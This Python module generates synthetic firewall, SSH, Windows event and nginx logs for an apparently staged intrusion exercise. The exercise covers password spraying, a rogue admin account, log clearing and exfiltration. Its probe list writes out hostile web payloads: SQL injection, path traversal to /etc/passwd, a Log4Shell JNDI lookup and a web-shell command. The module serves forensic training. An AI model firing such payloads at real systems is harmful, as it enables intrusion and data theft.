"""Logs of the hour: firewall, access gateway, jump host (Windows) and portal, as their devices write them."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime

from scripts.city import plan

_AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.5.0")
_PATHS = ("/", "/index.html", "/zwgk/list", "/bsfw/item?id=1024", "/static/main.css", "/static/logo.svg", "/api/news")
_PROBES = (
    "/item.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/download?file=../../../../etc/passwd",
    "/?x=${jndi:ldap://203.0.113.80/a}",
    "/uploads/avatar.jsp?cmd=whoami",
    "/.git/config",
)


def firewall(rng: random.Random) -> str:
    """Huawei USG syslog, times in UTC as the device sends them."""
    rows: list[tuple[datetime, str]] = []
    for _ in range(1500):
        client, port = f"198.51.100.{rng.randrange(100, 250)}", rng.choice((22, 23, 445, 1433, 3389, 8080))
        rows.append(
            (
                plan.at(rng.uniform(0, 60)),
                _policy("DENY", client, f"172.16.0.{rng.randrange(60, 90)}", port, "untrust", "dmz", "deny-all", rng),
            )
        )
    for _ in range(2400):
        client = f"192.0.2.{rng.randrange(100, 250)}"
        rows.append(
            (
                plan.at(rng.uniform(0, 60)),
                _policy("PERMIT", client, "172.16.0.80", 443, "untrust", "dmz", "in-portal", rng),
            )
        )
    rows.append(
        (plan.at(21.5), _policy("PERMIT", plan.VPN_CLIENT, plan.JUMP, 3389, "access", "manage", "ops-rdp", rng))
    )
    rows.append((plan.at(35), _policy("PERMIT", plan.JUMP, plan.HISTORIAN, 3389, "manage", "ot-dmz", "ot-maint", rng)))
    rows.append((plan.at(52), _policy("PERMIT", plan.JUMP, plan.DROP, 443, "manage", "untrust", "out-any", rng)))
    text = [f"<190>{when.astimezone(UTC):%b %e %Y %H:%M:%S} {plan.FIREWALL} {line}" for when, line in sorted(rows)]
    return "\n".join(text) + "\n"


def _policy(
    verdict: str, source: str, target: str, port: int, inside: str, outside: str, rule: str, rng: random.Random
) -> str:
    return (
        f"%%01POLICY/6/POLICY{verdict}(l):vsys=public, protocol=6, source-ip={source}, source-port={rng.randrange(20000, 60000)}, "
        f"destination-ip={target}, destination-port={port}, source-zone={inside}, destination-zone={outside}, "
        f"application-name=, rule-name={rule}."
    )


def gateway(rng: random.Random) -> str:
    """sshd of the access gateway, ISO times as rsyslog writes them: routine logins, then a spraying that hits once."""
    rows: list[tuple[datetime, str]] = []
    for n in range(30):
        who, host = f"ops{n % 6:02d}", f"172.16.10.{140 + n % 9}"
        rows.append(
            (
                plan.at(rng.uniform(0, 58)),
                f"sshd[{3000 + n}]: Accepted publickey for {who} from {host} port {40000 + n} ssh2: ED25519 SHA256:x{n:02d}",
            )
        )
    for n in range(43):
        who = ("admin", "root", "test", "oracle", "backup", "guest")[n % 6] if n % 2 else f"user{n:02d}"
        known = "invalid user " if n % 2 == 0 else ""
        rows.append(
            (
                plan.at(6 + n * 0.09),
                f"sshd[{5000 + n}]: Failed password for {known}{who} from {plan.ATTACKER} port {50000 + n} ssh2",
            )
        )
    rows.append((plan.at(10.1), f"sshd[5100]: Accepted password for ops-vpn01 from {plan.ATTACKER} port 50099 ssh2"))
    rows.append(
        (plan.at(12), "sudo: ops03 : TTY=pts/1 ; PWD=/home/ops03 ; USER=root ; COMMAND=/usr/bin/systemctl status vpn")
    )
    return "".join(f"{when.isoformat()} vpn-gw-01 {line}\n" for when, line in sorted(rows))


def jump_host(rng: random.Random) -> str:
    """Windows Security events of the jump host, one JSON object a line."""
    rows = [
        _windows(
            rng.uniform(0, 60),
            4624,
            {"TargetUserName": f"ops{n % 6:02d}", "LogonType": "3", "IpAddress": f"10.99.0.{40 + n % 8}"},
        )
        for n in range(60)
    ]
    rows += [
        _windows(rng.uniform(0, 60), 4634, {"TargetUserName": f"ops{n % 6:02d}", "LogonType": "3"}) for n in range(60)
    ]
    rows += [
        _windows(
            21.6,
            4624,
            {
                "TargetUserName": "ops-vpn01",
                "LogonType": "10",
                "IpAddress": plan.VPN_CLIENT,
                "AuthenticationPackageName": "Negotiate",
            },
        ),
        _windows(
            24.0, 4720, {"TargetUserName": "svc-maint", "SubjectUserName": "ops-vpn01", "SamAccountName": "svc-maint"}
        ),
        _windows(
            24.2,
            4732,
            {
                "TargetUserName": "Administrators",
                "TargetSid": "S-1-5-32-544",
                "MemberSid": "S-1-5-21-99-99-99-1107",
                "SubjectUserName": "ops-vpn01",
            },
        ),
        _windows(
            26.0,
            4688,
            {
                "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                "CommandLine": "whoami /all",
                "SubjectUserName": "svc-maint",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
            },
        ),
        _windows(33.0, 1102, {"SubjectUserName": "svc-maint"}, provider="Microsoft-Windows-Eventlog"),
    ]
    return "".join(
        json.dumps(row, ensure_ascii=False) + "\n" for row in sorted(rows, key=lambda row: str(row["TimeCreated"]))
    )


def _windows(
    minute: float, event: int, data: dict[str, str], *, provider: str = "Microsoft-Windows-Security-Auditing"
) -> dict[str, object]:
    when = plan.at(minute).astimezone(UTC)
    return {
        "TimeCreated": when.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "EventID": event,
        "Channel": "Security",
        "Provider_Name": provider,
        "Computer": "JUMP-01",
        **data,
    }


def portal(rng: random.Random) -> str:
    """nginx access log of the portal, combined format, city time."""
    rows: list[tuple[datetime, str]] = []
    for _ in range(3000):
        client = f"192.0.2.{rng.randrange(100, 250)}"
        rows.append(
            (
                plan.at(rng.uniform(0, 60)),
                _access(client, rng.choice(_PATHS), rng.choice((200, 200, 200, 304, 404)), rng.choice(_AGENTS), rng),
            )
        )
    for n, probe in enumerate(_PROBES * 3):
        rows.append((plan.at(14 + n * 0.2), _access("198.51.100.77", probe, 404, "sqlmap/1.8", rng)))
    return "".join(line.replace("@", f"{when:%d/%b/%Y:%H:%M:%S %z}", 1) + "\n" for when, line in sorted(rows))


def _access(client: str, path: str, status: int, agent: str, rng: random.Random) -> str:
    return f'{client} - - [@] "GET {path} HTTP/1.1" {status} {rng.randrange(200, 40000)} "-" "{agent}"'
